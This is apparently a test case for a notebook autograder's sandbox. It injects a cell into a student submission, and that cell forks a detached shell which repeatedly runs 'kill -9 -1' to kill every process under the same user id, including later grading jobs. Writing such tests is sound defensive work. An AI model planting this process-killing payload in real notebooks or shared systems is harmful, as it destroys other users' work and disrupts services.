"""Leaves a process behind, in its own session, that SIGKILLs every process it can see, to
take down the jobs that follow with the same user id. It dies with its job."""

from _parts import FULL, add_cell_after

KILLER = """
import _posixsubprocess, os
script = b"while true; do kill -9 -1 2>/dev/null; sleep 0.05; done"
read, write = os.pipe()
_posixsubprocess.fork_exec(
    [b"/bin/sh", b"-c", script], [b"/bin/sh"], True, (), None, None,
    -1, -1, -1, -1, -1, -1, read, write, True, True, -1, None, None, None, -1, None, False)
print("a killer was left running")
"""


def submission(notebook, course):
    return add_cell_after(notebook, "correlate2d", KILLER)


EXPECTED = FULL
CAUSE = ""
PRINTS = ["a killer was left running"]
